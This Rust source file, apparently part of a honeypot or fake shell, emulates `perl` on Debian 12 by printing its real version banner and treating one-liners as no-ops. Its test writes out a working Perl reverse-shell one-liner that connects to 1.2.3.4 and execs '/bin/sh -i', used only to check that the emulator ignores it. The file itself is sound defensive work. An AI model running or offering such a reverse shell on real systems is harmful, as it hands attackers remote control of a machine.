//! `perl` 5.36.0: `perl-base` is on every Debian 12, so it is always there; `-v` prints the real banner and `-e`
//! one-liners never run (a reverse shell's `connect` fails quietly, as its `if(connect(...))` guard makes it).

use super::{Command, Ctx};

/// The `perl` command.
pub struct Perl;

const VERSION: &str = "
This is perl 5, version 36, subversion 0 (v5.36.0) built for x86_64-linux-gnu-thread-multi
(with 83 registered patches, see perl -V for more detail)

Copyright 1987-2022, Larry Wall

Perl may be copied only under the terms of either the Artistic License or the
GNU General Public License, which may be found in the Perl 5 source kit.

Complete documentation for Perl, including FAQ lists, should be found on
this system using \"man perl\" or \"perldoc perl\".  If you have access to the
Internet, point your browser at https://www.perl.org/, the Perl Home Page.

";

impl Command for Perl {
    fn names(&self) -> &'static [&'static str] {
        &[
            "perl",
            "/usr/bin/perl",
            "/bin/perl",
            "perl5.36.0",
            "/usr/bin/perl5.36.0",
        ]
    }

    fn run(&self, ctx: &mut Ctx, args: &[String], stdin: &[u8]) -> i32 {
        let mut rest = args.iter().skip(1);
        while let Some(arg) = rest.next() {
            match arg.as_str() {
                "-v" | "--version" => {
                    ctx.out(VERSION);
                    return 0;
                }
                "-e" | "-E" => {
                    let code = rest.next().cloned().unwrap_or_default();
                    return run_code(ctx, &code);
                }
                a if a.starts_with("-M")
                    || a.starts_with("-w")
                    || a.starts_with("-n")
                    || a.starts_with("-p")
                    || a == "-l"
                    || a == "-s"
                    || a == "-" => {}
                a if a.starts_with('-') => {
                    let c = a.chars().nth(1).unwrap_or('-');
                    ctx.err(format!("Unrecognized switch: -{c}  (-h will show valid options).\n"));
                    return 25;
                }
                file => {
                    return match ctx.session.read_file(file) {
                        Ok(bytes) => run_code(ctx, &String::from_utf8_lossy(&bytes)),
                        Err(e) => {
                            ctx.err(format!("Can't open perl script \"{file}\": {}\n", e.message()));
                            2
                        }
                    };
                }
            }
        }
        run_code(ctx, &String::from_utf8_lossy(stdin))
    }
}

/// "Runs" a snippet: `print "literal"` prints; everything else does nothing.
fn run_code(ctx: &mut Ctx, code: &str) -> i32 {
    for stmt in code.split([';', '\n']).take(1000) {
        let stmt = stmt.trim();
        if let Some(arg) = stmt.strip_prefix("print ") {
            let arg = arg.trim();
            if arg.len() >= 2 && arg.starts_with('"') && arg.ends_with('"') {
                let text = arg[1..arg.len() - 1].replace("\\n", "\n").replace("\\t", "\t");
                ctx.out(text);
            } else if arg.len() >= 2 && arg.starts_with('\'') && arg.ends_with('\'') {
                ctx.out(&arg[1..arg.len() - 1]);
            }
        }
    }
    0
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::check;

    #[test]
    fn perl() {
        let out = crate::commands::testing::session().run_line("perl -v");
        assert_eq!(out.stdout, super::VERSION.as_bytes());
        check("perl -e 'print \"a\\n\"'", "a\n", "", 0);
        check(
            "perl -e 'use Socket;$i=\"1.2.3.4\";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec(\"/bin/sh -i\");};'",
            "",
            "",
            0,
        );
        check(
            "perl -z",
            "",
            "Unrecognized switch: -z  (-h will show valid options).\n",
            25,
        );
    }
}
